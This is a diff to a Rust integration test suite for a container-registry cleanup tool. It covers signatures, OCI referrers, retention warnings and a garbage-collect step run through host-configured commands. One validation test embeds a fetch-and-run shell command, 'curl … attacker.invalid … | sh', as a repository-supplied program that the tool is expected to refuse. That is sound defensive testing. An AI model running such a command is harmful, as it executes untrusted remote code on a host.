@@ -13,13 +13,15 @@ use std::sync::Arc;
 
 use futures::StreamExt;
 
+use driftless::config::HostCommands;
 use driftless::jobs::image_cleanup::{self, Inputs};
 use driftless::jobs::model::Job;
 use driftless::jobs::schedule::Schedule;
 use driftless::registry::{Client, Credentials};
 use serde_json::{Value, json};
 use support::registry::{
-    OCI_INDEX, OCI_MANIFEST, push_blob, push_image, put_manifest, sha256_digest,
+    OCI_INDEX, OCI_MANIFEST, accessory_tag, push_blob, push_cosign_signature, push_image,
+    push_referrer, push_referrers_index, put_manifest, sha256_digest,
 };
 use support::{TestEnv, kubectl, unique_name};
 
@@ -70,6 +72,20 @@ fn credentials(dir: &Path) -> std::path::PathBuf {
     )
     .unwrap();
     creds
+}
+
+/// A stack `images` at `stack` with one object (a stack that renders nothing is refused).
+fn write_stack(stack: &Path) {
+    std::fs::write(
+        stack.join("stack.yaml"),
+        "apiVersion: driftless.dev/v1alpha1\nkind: Stack\nmetadata: {name: images}\nspec: {namespace: images}\n",
+    )
+    .unwrap();
+    std::fs::write(
+        stack.join("settings.yaml"),
+        "apiVersion: v1\nkind: ConfigMap\nmetadata: {name: settings}\ndata: {a: b}\n",
+    )
+    .unwrap();
 }
 
 /// An image whose config has no `created` (as attestation manifests), returning its digest.
@@ -419,6 +435,8 @@ async fn pagination_over_a_thousand_tags_and_tag_only_deletion() {
         desired: &[],
         credentials: &driftless::credentials::Credentials::default(),
         state_dir: dir.path(),
+        commands: &HostCommands::new(),
+        strict: false,
     };
     let report = image_cleanup::run(&job, &inputs, false).await.unwrap();
     assert!(report.ok(), "{}", report.text());
@@ -445,7 +463,8 @@ async fn pagination_over_a_thousand_tags_and_tag_only_deletion() {
 }
 
 /// A tag pushed again between planning and deleting: the digest it now names is not deleted,
-/// and the planned delete of the old digest is skipped.
+/// and the planned delete of the old digest is skipped; so is the delete of the signature of a
+/// digest that stays.
 #[tokio::test]
 async fn a_tag_moved_after_planning_is_not_lost() {
     let env = TestEnv::get();
@@ -454,6 +473,7 @@ async fn a_tag_moved_after_planning_is_not_lost() {
     let (old1, _) = push_image(&push, &repo, "build-1", "2025-01-01T00:00:00Z", "1").await;
     let (old2, _) = push_image(&push, &repo, "build-2", "2025-02-01T00:00:00Z", "2").await;
     push_image(&push, &repo, "build-3", "2025-03-01T00:00:00Z", "3").await;
+    let sig2 = push_cosign_signature(&push, &repo, &old2).await;
     let dir = tempfile::tempdir().unwrap();
     let creds = credentials(dir.path());
     let job = job(
@@ -489,12 +509,17 @@ async fn a_tag_moved_after_planning_is_not_lost() {
         .filter(|d| {
             matches!(
                 d,
-                driftless::jobs::retention::RetentionDecision::Delete { .. }
+                driftless::jobs::image_cleanup::retention::RetentionDecision::Delete { .. }
             )
         })
         .map(|d| d.digest().to_owned())
         .collect();
-    assert_eq!(planned.len(), 2, "build-1 and build-2 planned for deletion");
+    assert_eq!(
+        planned.len(),
+        3,
+        "build-1, build-2 and build-2's signature planned for deletion"
+    );
+    assert!(planned.contains(&sig2));
     // Concurrent pushes: build-1 now names a new image; build-2's digest gets a new tag.
     let (new1, _) = push_image(&push, &repo, "build-1", "2025-04-01T00:00:00Z", "1b").await;
     put_manifest_copy(&push, &repo, "build-2", "hotfix").await;
@@ -513,13 +538,32 @@ async fn a_tag_moved_after_planning_is_not_lost() {
         exists(registry, &repo, &old1).await,
         "the moved tag's old digest is skipped"
     );
+    assert!(
+        exists(registry, &repo, &sig2).await,
+        "the signature of a digest that stays, stays"
+    );
     assert_eq!(
         tags(registry, &repo).await,
-        ["build-1", "build-2", "build-3", "hotfix"]
+        [
+            "build-1".to_owned(),
+            "build-2".to_owned(),
+            "build-3".to_owned(),
+            "hotfix".to_owned(),
+            accessory_tag(&old2, ".sig")
+        ]
     );
-    assert_eq!(report.totals.skipped, 2, "{}", report.text());
+    let text = report.text();
+    assert_eq!(report.totals.skipped, 3, "{text}");
     assert_eq!(report.totals.deleted, 0);
-    assert!(report.text().contains("moved"), "{}", report.text());
+    assert!(text.contains("moved"), "{text}");
+    assert!(
+        text.contains(&format!(
+            "skipped  {}: its subject {} was not deleted",
+            &sig2[..19],
+            &old2[..19]
+        )),
+        "{text}"
+    );
 }
 
 /// A registry failing for one repository (failure injection: a proxy answering 500 for it in
@@ -592,6 +636,8 @@ async fn one_failing_repository_does_not_stop_the_others() {
         desired: &[],
         credentials: &driftless::credentials::Credentials::in_dir(Some(creds.to_path_buf())),
         state_dir: dir.path(),
+        commands: &HostCommands::new(),
+        strict: false,
     };
     let mut report = image_cleanup::run(&job, &inputs, false).await.unwrap();
     report.repositories.retain(|r| r.repository.starts_with(&p));
@@ -626,15 +672,16 @@ async fn one_failing_repository_does_not_stop_the_others() {
 }
 
 /// The garbage-collect post-step, on a registry of this test's own (garbage collection must
-/// not run while others push): blobs only deleted images used are gone afterwards.
+/// not run while others push), through `driftless jobs run`: the job names `registry-gc`, the
+/// host configuration says what that runs. Blobs only deleted images used are gone afterwards.
 #[tokio::test]
-async fn garbage_collect_post_step_frees_the_blobs() {
+async fn garbage_collect_runs_the_host_command_the_job_names_and_frees_the_blobs() {
     let env = TestEnv::get();
     let dir = tempfile::tempdir().unwrap();
     let port = support::daemon::free_port();
-    let config = dir.path().join("config.yml");
+    let registry_config = dir.path().join("config.yml");
     std::fs::write(
-        &config,
+        &registry_config,
         format!(
             "version: 0.1\nlog: {{level: warn}}\nstorage:\n  filesystem: {{rootdirectory: {}}}\n  delete: {{enabled: true}}\nhttp:\n  addr: 127.0.0.1:{port}\n",
             dir.path().join("data").display()
@@ -643,7 +690,7 @@ async fn garbage_collect_post_step_frees_the_blobs() {
     .unwrap();
     let bin = env.var("REGISTRY_BIN");
     let mut server = Command::new(bin)
-        .args(["serve", config.to_str().unwrap()])
+        .args(["serve", registry_config.to_str().unwrap()])
         .stdout(std::process::Stdio::null())
         .stderr(std::process::Stdio::null())
         .spawn()
@@ -679,32 +726,71 @@ async fn garbage_collect_post_step_frees_the_blobs() {
         }
     };
     assert_eq!(blob(old_layer.clone()).await, 200);
-    let job = job(
-        "gc",
-        json!({"schedule": "@daily", "mode": "enforce", "registry": {"url": url},
-            "protect": {"cluster": false, "desired": false},
-            "rules": [{"repositories": "gc/*", "keepLast": 1}],
-            "garbageCollect": {"command": [bin, "garbage-collect", config.to_str().unwrap()], "timeout": "2m"}}),
-    );
-    let state = tempfile::tempdir().unwrap();
-    let inputs = Inputs {
-        cluster: None,
-        desired: &[],
-        credentials: &driftless::credentials::Credentials::default(),
-        state_dir: state.path(),
+
+    let repo = dir.path().join("repo");
+    let stack = repo.join("stack/images");
+    std::fs::create_dir_all(&stack).unwrap();
+    write_stack(&stack);
+    std::fs::write(
+        stack.join("jobs.yaml"),
+        format!(
+            "apiVersion: driftless.dev/v1alpha1\nkind: ImageCleanup\nmetadata: {{name: gc}}\nspec:\n  schedule: '@daily'\n  mode: enforce\n  registry: {{url: '{url}'}}\n  protect: {{cluster: false, desired: false}}\n  rules: [{{repositories: 'gc/*', keepLast: 1}}]\n  garbageCollect: {{command: registry-gc}}\n"
+        ),
+    )
+    .unwrap();
+    let host_config = dir.path().join("driftless.yaml");
+    let write_host_config = |commands: &str| {
+        std::fs::write(
+            &host_config,
+            format!(
+                "stateDir: {}\njobs:\n  commands:\n{commands}",
+                dir.path().join("state").display()
+            ),
+        )
+        .unwrap()
     };
-    let report = image_cleanup::run(&job, &inputs, false).await.unwrap();
+    let path = repo.to_str().unwrap();
+
+    // A host configuration without the command: the run fails before deleting anything, and
+    // says what to add.
+    write_host_config("    other: {command: [/bin/true]}\n");
+    let out = driftless(&host_config, &["jobs", "run", "gc", "--path", path]);
+    let said = support::text(&out);
+    assert!(!out.status.success(), "{said}");
+    assert!(
+        said.contains("has no jobs.commands.registry-gc (defined: other)")
+            && said.contains("to the host configuration"),
+        "{said}"
+    );
+    assert_eq!(
+        tags(
+            &Client::new(&url, Credentials::default()).unwrap(),
+            "gc/app"
+        )
+        .await,
+        ["new", "old"]
+    );
+
+    write_host_config(&format!(
+        "    registry-gc: {{command: ['{bin}', garbage-collect, '{}'], timeout: 2m}}\n",
+        registry_config.display()
+    ));
+    let out = driftless(
+        &host_config,
+        &["jobs", "run", "gc", "--path", path, "-o", "json"],
+    );
     let _ = server.kill();
     let _ = server.wait();
-    assert!(report.ok(), "{}", report.text());
-    assert_eq!(report.totals.deleted, 1);
+    let said = support::text(&out);
+    assert!(out.status.success(), "{said}");
+    let report: Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!(report["report"]["totals"]["deleted"], 1, "{report:#}");
+    let gc = report["report"]["garbageCollect"]
+        .as_str()
+        .unwrap_or_default();
     assert!(
-        report
-            .garbage_collect
-            .as_deref()
-            .is_some_and(|g| g.contains("succeeded")),
-        "{:?}",
-        report.garbage_collect
+        gc.starts_with("registry-gc (") && gc.contains("succeeded"),
+        "{gc}"
     );
     // The registry's storage no longer holds the deleted image's layer.
     let data = dir.path().join("data/docker/registry/v2/blobs/sha256");
@@ -713,4 +799,414 @@ async fn garbage_collect_post_step_frees_the_blobs() {
         !data.join(&hex[..2]).join(hex).exists(),
         "layer blob removed by garbage collection"
     );
+}
+
+/// A jobs.yaml naming a program (a command list) fails `driftless validate`: the message names
+/// the file, the job and the field, and says to name a host command instead.
+#[test]
+fn validate_refuses_a_program_named_in_the_repository() {
+    let dir = tempfile::tempdir().unwrap();
+    let stack = dir.path().join("stack/images");
+    std::fs::create_dir_all(&stack).unwrap();
+    write_stack(&stack);
+    let jobs = |gc: &str| {
+        format!(
+            "apiVersion: driftless.dev/v1alpha1\nkind: ImageCleanup\nmetadata: {{name: cleanup}}\nspec:\n  schedule: '@daily'\n  registry: {{url: 'http://127.0.0.1:5000'}}\n  rules: [{{repositories: '**', keepLast: 3}}]\n  garbageCollect: {gc}\n"
+        )
+    };
+    std::fs::write(
+        stack.join("jobs.yaml"),
+        jobs("{command: [sh, -c, 'curl -s http://attacker.invalid/x | sh'], timeout: 1m}"),
+    )
+    .unwrap();
+    let config = dir.path().join("none.yaml");
+    let path = dir.path().to_str().unwrap();
+    let out = driftless(&config, &["validate", "--path", path]);
+    let said = support::text(&out);
+    assert_eq!(out.status.code(), Some(2), "{said}");
+    for part in [
+        "stack/images/jobs.yaml",
+        "ImageCleanup cleanup",
+        "spec.garbageCollect.command: a command list would run a program on the ops host from the repository",
+        "programs are named only in the host configuration",
+        "`command: registry-gc`",
+    ] {
+        assert!(said.contains(part), "{part:?} in {said}");
+    }
+    // A name passes offline: the host configuration is checked when the job runs.
+    std::fs::write(stack.join("jobs.yaml"), jobs("{command: registry-gc}")).unwrap();
+    let out = driftless(&config, &["validate", "--path", path]);
+    assert!(out.status.success(), "{}", support::text(&out));
+}
+
+/// The release scenario of issue 21 on the real registry (which serves no referrers API, so OCI
+/// 1.1 referrers are found through the referrers tag schema, as clients push it there): an index
+/// `v1.0.0` with two children (one also tagged tmp-1), five builds (one used by a Deployment), a
+/// cosign signature of the index and of the oldest build, and OCI referrers (pushed with a
+/// `subject`) of the index and of a build to delete. Through the CLI: a prefix pattern
+/// (`'^v\d'`) keeps nothing and the dry run says so (and fails with `--strict`); the enforce run
+/// keeps the index's signature and referrer and deletes those of deleted builds.
+#[tokio::test]
+async fn signatures_and_referrers_follow_their_subject_and_a_rule_that_keeps_nothing_warns() {
+    let env = TestEnv::get();
+    let url = env.registry_url().to_owned();
+    let host = url.trim_start_matches("http://").to_owned();
+    let p = unique_name("acc");
+    let app = format!("{p}/app");
+    let registry = Client::new(&url, Credentials::default()).unwrap();
+    let (amd64, _) = push_image(&url, &app, "tmp-1", "2025-01-01T00:00:00Z", "amd64").await;
+    let (arm64, _) = push_image(&url, &app, "tmp-arm", "2025-01-01T00:00:00Z", "arm64").await;
+    registry.delete_tag(&app, "tmp-arm").await.unwrap();
+    let index_body = serde_json::to_vec(&json!({
+        "schemaVersion": 2, "mediaType": OCI_INDEX, "manifests": [
+            {"mediaType": OCI_MANIFEST, "digest": amd64, "size": 1, "platform": {"architecture": "amd64", "os": "linux"}},
+            {"mediaType": OCI_MANIFEST, "digest": arm64, "size": 1, "platform": {"architecture": "arm64", "os": "linux"}}]
+    }))
+    .unwrap();
+    put_manifest(&url, &app, "v1.0.0", OCI_INDEX, &index_body).await;
+    let index = sha256_digest(&index_body);
+    let mut builds = Vec::new();
+    for n in 1..=5 {
+        let created = format!("2025-{:02}-01T00:00:00Z", n + 1);
+        builds.push(push_image(&url, &app, &format!("build-{n}"), &created, &n.to_string()).await);
+    }
+    let sig_index = push_cosign_signature(&url, &app, &index).await;
+    let sig_build1 = push_cosign_signature(&url, &app, &builds[0].0).await;
+    let bundle = "application/vnd.dev.sigstore.bundle.v0.3+json";
+    let (ref_index, size) = push_referrer(
+        &url,
+        &app,
+        (&index, OCI_INDEX, index_body.len()),
+        bundle,
+        "index",
+    )
+    .await;
+    let refs_of_index =
+        push_referrers_index(&url, &app, &index, &[(ref_index.clone(), size, bundle)]).await;
+    let sbom = "application/spdx+json";
+    let (ref_build3, size) = push_referrer(
+        &url,
+        &app,
+        (&builds[2].0, OCI_MANIFEST, builds[2].1.len()),
+        sbom,
+        "build-3",
+    )
+    .await;
+    let refs_of_build3 = push_referrers_index(
+        &url,
+        &app,
+        &builds[2].0,
+        &[(ref_build3.clone(), size, sbom)],
+    )
+    .await;
+
+    // build-2 is in use.
+    let ns = env.namespace("acc").await;
+    kubectl(&[
+        "-n",
+        &ns.name,
+        "create",
+        "deployment",
+        "web",
+        &format!("--image={host}/{app}:build-2"),
+    ]);
+
+    let dir = tempfile::tempdir().unwrap();
+    let stack = dir.path().join("stack/images");
+    std::fs::create_dir_all(&stack).unwrap();
+    write_stack(&stack);
+    let write_job = |mode: &str, keep_tags: &str| {
+        std::fs::write(
+            stack.join("jobs.yaml"),
+            format!(
+                "apiVersion: driftless.dev/v1alpha1\nkind: ImageCleanup\nmetadata: {{name: release}}\nspec:\n  schedule: '@daily'\n  mode: {mode}\n  registry: {{url: '{url}'}}\n  rules:\n    - repositories: '{p}/*'\n      keepLast: 2\n      keepTags: '{keep_tags}'\n      untagged: delete\n"
+            ),
+        )
+        .unwrap()
+    };
+    let config = dir.path().join("driftless.yaml");
+    std::fs::write(
+        &config,
+        format!("stateDir: {}\n", dir.path().join("state").display()),
+    )
+    .unwrap();
+    let path = dir.path().to_str().unwrap();
+    let all_tags = || async { tags(&registry, &app).await };
+    let before = all_tags().await;
+    assert_eq!(before.len(), 11, "{before:?}");
+
+    // The prefix pattern: anchored at both ends, it keeps nothing. The dry run warns in the
+    // report, the summary and the log; with --strict it fails (for CI).
+    write_job("enforce", r"^v\d");
+    let warning = format!(
+        r"rule 0 keepTags '^v\d' matches no tag of {app}, which loses 11 digests (keepTags is anchored at both ends: it matches part of v1.0.0; '^v\d.*' would match it)"
+    );
+    let out = driftless(
+        &config,
+        &[
+            "jobs",
+            "run",
+            "release",
+            "--path",
+            path,
+            "--dry-run",
+            "--strict",
+            "-o",
+            "json",
+        ],
+    );
+    let said = support::text(&out);
+    assert_eq!(out.status.code(), Some(2), "{said}");
+    let report: Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert_eq!(report["run"]["outcome"], "failed");
+    let message = report["run"]["message"].as_str().unwrap();
+    assert!(
+        message.contains(&format!(
+            r"warning: rule 0 keepTags '^v\d' keeps nothing in {app} (--strict: the run fails)"
+        )),
+        "{message}"
+    );
+    assert_eq!(report["report"]["warnings"][0]["repository"], app.as_str());
+    assert_eq!(report["report"]["warnings"][0]["loses"], 11);
+    assert!(
+        String::from_utf8_lossy(&out.stderr).contains(&warning),
+        "the log has it: {said}"
+    );
+    // The rule kept the two newest builds only; the figures say so.
+    assert_eq!(report["run"]["figures"]["keptByRule0"], 2, "{report:#}");
+    assert_eq!(report["run"]["figures"]["warnings"], 1);
+    // Without --strict the dry run succeeds, and the human report shows the warning on top.
+    let out = driftless(
+        &config,
+        &["jobs", "run", "release", "--path", path, "--dry-run"],
+    );
+    let text = String::from_utf8_lossy(&out.stdout).to_string();
+    assert!(out.status.success(), "{}", support::text(&out));
+    assert!(text.contains(&format!("warning: {warning}")), "{text}");
+    assert!(
+        text.contains(r"rule 0 (")
+            && text.contains(r"keepTags '^v\d'): kept 2 digests in 1 repositories"),
+        "{text}"
+    );
+    assert_eq!(all_tags().await, before, "dry runs delete nothing");
+    // The job's status (jobs list: last run, figures, message) shows it too.
+    let out = driftless(&config, &["jobs", "list", "--path", path, "-o", "json"]);
+    let list: Value = serde_json::from_slice(&out.stdout).unwrap();
+    let last = &list[0]["lastRun"];
+    assert_eq!(last["figures"]["keptByRule0"], 2, "{last:#}");
+    assert!(
+        last["message"].as_str().unwrap().contains("keeps nothing"),
+        "{last:#}"
+    );
+
+    // The intended pattern, enforced.
+    write_job("enforce", r"v\d.*");
+    let out = driftless(
+        &config,
+        &["jobs", "run", "release", "--path", path, "-o", "json"],
+    );
+    let said = support::text(&out);
+    assert!(out.status.success(), "{said}");
+    let report: Value = serde_json::from_slice(&out.stdout).unwrap();
+    assert!(
+        report["report"]["warnings"].is_null(),
+        "no warning: {report:#}"
+    );
+    let mut want = vec![
+        "build-2".to_owned(),
+        "build-4".to_owned(),
+        "build-5".to_owned(),
+        accessory_tag(&index, ""),
+        accessory_tag(&index, ".sig"),
+        "tmp-1".to_owned(),
+        "v1.0.0".to_owned(),
+    ];
+    want.sort();
+    assert_eq!(all_tags().await, want);
+    for (what, d) in [
+        ("the release index", &index),
+        ("its children", &amd64),
+        ("its children", &arm64),
+        ("its signature", &sig_index),
+        ("its OCI referrer", &ref_index),
+        ("its referrers index", &refs_of_index),
+        ("build-2, in use", &builds[1].0),
+        ("build-4", &builds[3].0),
+        ("build-5", &builds[4].0),
+    ] {
+        assert!(exists(&registry, &app, d).await, "{what} kept");
+    }
+    for (what, d) in [
+        ("build-1", &builds[0].0),
+        ("build-3", &builds[2].0),
+        ("the signature of build-1", &sig_build1),
+        ("the referrer of build-3", &ref_build3),
+        ("build-3's referrers index", &refs_of_build3),
+    ] {
+        assert!(!exists(&registry, &app, d).await, "{what} deleted");
+    }
+    let decisions = report["report"]["repositories"]
+        .as_array()
+        .unwrap()
+        .iter()
+        .find(|r| r["repository"] == app.as_str())
+        .unwrap()["decisions"]
+        .as_array()
+        .unwrap()
+        .clone();
+    let reasons = |d: &str| {
+        decisions
+            .iter()
+            .find(|x| x["digest"] == d)
+            .map(|x| x["reasons"].clone())
+            .unwrap_or_default()
+    };
+    assert_eq!(
+        reasons(&sig_index),
+        json!([{"reason": "accessory", "kind": "signature", "subject": index}])
+    );
+    assert!(
+        reasons(&ref_index)
+            .as_array()
+            .unwrap()
+            .contains(&json!({"reason": "accessory", "kind": "signature", "subject": index})),
+        "{}",
+        reasons(&ref_index)
+    );
+    // The human report gives the reason.
+    let out = driftless(
+        &config,
+        &["jobs", "run", "release", "--path", path, "--dry-run"],
+    );
+    let text = String::from_utf8_lossy(&out.stdout).to_string();
+    assert!(
+        text.lines()
+            .any(|l| l.contains(&accessory_tag(&index, ".sig"))
+                && l.ends_with(&format!(": signature of kept {}", &index[..19]))),
+        "{text}"
+    );
+}
+
+/// Where the registry serves the referrers API, the referrers of what the plan deletes are asked
+/// for and go with their subject; a listing is believed only where the referrer's own manifest
+/// names the subject. The API is put in front of the real registry by a proxy (distribution
+/// v3 does not serve it; the referrers themselves are real manifests with a `subject`), which
+/// also lies: it lists an unrelated untagged image as a referrer of the deleted build.
+#[tokio::test]
+async fn referrers_the_api_lists_go_with_their_subject_and_a_false_listing_changes_nothing() {
+    let env = TestEnv::get();
+    let url = env.registry_url().to_owned();
+    let repo = format!("{}/app", unique_name("refapi"));
+    let registry = Client::new(&url, Credentials::default()).unwrap();
+    let (old, old_manifest) = push_image(&url, &repo, "build-1", "2025-01-01T00:00:00Z", "1").await;
+    let (new, _) = push_image(&url, &repo, "build-2", "2025-02-01T00:00:00Z", "2").await;
+    // An untagged attestation of build-1 (no referrers index: only the API finds it).
+    let (attestation, _) = push_referrer(
+        &url,
+        &repo,
+        (&old, OCI_MANIFEST, old_manifest.len()),
+        "application/vnd.in-toto+json",
+        "old",
+    )
+    .await;
+    // An unrelated image, untagged: the rules keep untagged images, so it stays unless a false
+    // link made it follow build-1.
+    let (unrelated, _) =
+        push_image(&url, &repo, "scratch", "2025-01-15T00:00:00Z", "unrelated").await;
+    registry.delete_tag(&repo, "scratch").await.unwrap();
+
+    let upstream = url.clone();
+    let (lister, subject) = (format!("/v2/{repo}/referrers/"), old.clone());
+    let listed = json!({"schemaVersion": 2, "mediaType": OCI_INDEX, "manifests": [
+        {"mediaType": OCI_MANIFEST, "digest": attestation, "size": 1, "artifactType": "application/vnd.in-toto+json"},
+        {"mediaType": OCI_MANIFEST, "digest": unrelated, "size": 1, "artifactType": "application/vnd.in-toto+json"}]});
+    let http = reqwest::Client::new();
+    let asked = Arc::new(std::sync::atomic::AtomicU32::new(0));
+    let counter = asked.clone();
+    let app = axum::Router::new().fallback(move |req: axum::extract::Request| {
+        let (upstream, lister, subject, listed, http, counter) = (
+            upstream.clone(),
+            lister.clone(),
+            subject.clone(),
+            listed.clone(),
+            http.clone(),
+            counter.clone(),
+        );
+        async move {
+            let path = req
+                .uri()
+                .path_and_query()
+                .map(|p| p.as_str().to_owned())
+                .unwrap_or_default();
+            if let Some(digest) = path.strip_prefix(&lister) {
+                counter.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
+                let body = if digest == subject {
+                    listed
+                } else {
+                    json!({"schemaVersion": 2, "mediaType": OCI_INDEX, "manifests": []})
+                };
+                return axum::response::Response::builder()
+                    .status(200)
+                    .header("content-type", OCI_INDEX)
+                    .body(axum::body::Body::from(body.to_string()))
+                    .unwrap();
+            }
+            let mut out = http.request(req.method().clone(), format!("{upstream}{path}"));
+            for (k, v) in req.headers() {
+                if k != "host" {
+                    out = out.header(k, v);
+                }
+            }
+            let body = axum::body::to_bytes(req.into_body(), 1 << 20)
+                .await
+                .unwrap();
+            let resp = out.body(body).send().await.unwrap();
+            let mut builder = axum::response::Response::builder().status(resp.status().as_u16());
+            for (k, v) in resp.headers() {
+                builder = builder.header(k, v);
+            }
+            builder
+                .body(axum::body::Body::from(resp.bytes().await.unwrap()))
+                .unwrap()
+        }
+    });
+    let listener = tokio::net::TcpListener::bind("127.0.0.1:0").await.unwrap();
+    let proxy = format!("http://{}", listener.local_addr().unwrap());
+    tokio::spawn(async move { axum::serve(listener, app).await });
+
+    let dir = tempfile::tempdir().unwrap();
+    let job = job(
+        "refapi",
+        json!({"schedule": "@daily", "mode": "enforce", "registry": {"url": proxy},
+            "protect": {"cluster": false, "desired": false},
+            "rules": [{"repositories": repo, "keepLast": 1}]}),
+    );
+    let inputs = Inputs {
+        cluster: None,
+        desired: &[],
+        credentials: &driftless::credentials::Credentials::default(),
+        state_dir: dir.path(),
+        commands: &HostCommands::new(),
+        strict: false,
+    };
+    let mut report = image_cleanup::run(&job, &inputs, false).await.unwrap();
+    // Only this test's repository: others on the shared registry may change under the scan.
+    report.repositories.retain(|r| r.repository == repo);
+    let text = report.text();
+    assert!(report.repositories[0].error.is_none(), "{text}");
+    assert!(!exists(&registry, &repo, &old).await, "build-1 deleted");
+    assert!(
+        !exists(&registry, &repo, &attestation).await,
+        "its attestation, found through the API, deleted with it: {text}"
+    );
+    assert!(
+        exists(&registry, &repo, &unrelated).await,
+        "the falsely listed image stays: {text}"
+    );
+    assert!(exists(&registry, &repo, &new).await);
+    assert!(
+        text.contains(&format!("attestation of {} (deleted with it)", &old[..19])),
+        "{text}"
+    );
+    assert!(asked.load(std::sync::atomic::Ordering::SeqCst) >= 1);
 }
